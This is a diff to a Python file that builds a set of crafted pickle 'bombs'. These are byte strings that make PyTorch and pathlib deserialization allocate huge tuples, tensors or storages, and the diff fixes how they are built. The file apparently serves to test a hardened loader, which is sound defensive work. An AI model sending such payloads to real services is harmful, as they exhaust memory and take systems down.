@@ -72,7 +72,7 @@ def name(module_and_name: str) -> bytes:
 
 def doubled(count: int, empty: bytes = b")") -> bytes:
     """Tuples that hold the last one twice: few bytes, 2^count elements."""
-    return empty + b"q\x00" + b"".join(b"h\x00h\x00\x86q\x00" for _ in range(count))
+    return empty + b"q\x00" + b"h\x00\x86q\x00" * count
 
 
 def colliding(count: int) -> bytes:
@@ -102,9 +102,9 @@ BOMBS = {
     "a shape of doubled tuples": HEAD + name("torch Size") + doubled(60) + b"\x85R.",
     "a sparse tensor of doubled lists": HEAD + name("torch._utils _rebuild_sparse_tensor")
     + name("torch.serialization _get_layout") + text("torch.sparse_coo") + b"\x85R"
-    + doubled(40) + b"h\x00h\x00\x87\x86R.",
+    + doubled(40, b"]") + b"h\x00h\x00\x87\x86R.",
     "a tensor of numbers": HEAD + name("torch Tensor") + number(2**35) + b"\x85R.",
-    "a tensor of its type": HEAD + name("torch._tensor _rebuild_from_type_v2(")[:-1]
+    "a tensor of its type": HEAD + name("torch._tensor _rebuild_from_type_v2") + b"("
     + name("builtins bytearray") + name("torch Tensor") + number(2**33) + b"\x85}tR.",
     "a storage": HEAD + name("torch.storage UntypedStorage") + number(2**35) + b"\x85R.",
     "a path of doubled tuples": HEAD + name("pathlib PosixPath") + doubled(60) + b"\x85R.",
